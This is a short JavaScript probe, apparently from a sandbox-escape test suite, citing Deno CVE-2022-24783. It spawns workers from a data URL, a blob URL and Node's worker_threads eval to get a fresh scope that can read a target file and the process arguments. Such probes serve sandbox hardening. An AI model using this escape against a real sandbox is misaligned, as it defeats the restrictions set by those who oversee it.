// Tries: a worker thread from a blob or data URL: a fresh global scope in which nothing was taken apart.
// Origin: Deno CVE-2022-24783 (permissions regained); own idea.

const source = `const found = []; try { found.push(Deno.args) } catch {} try { found.push(Deno.readTextFileSync(${JSON.stringify(input.file)})) }
  catch (error) { found.push(String(error)) } postMessage(found)`;
const found = [];
for (const make of [
  () => new Worker("data:application/javascript," + encodeURIComponent(source), { type: "module" }),
  () => new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), { type: "module" }),
  () => new (process.getBuiltinModule("worker_threads").Worker)(source, { eval: true }),
]) {
  try {
    const worker = make();
    found.push(await new Promise((resolve) => {
      worker.onmessage = (event) => resolve(event.data);
      worker.onerror = (event) => (event.preventDefault(), resolve(event.message));
      setTimeout(resolve, 1500);
    }));
    worker.terminate();
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
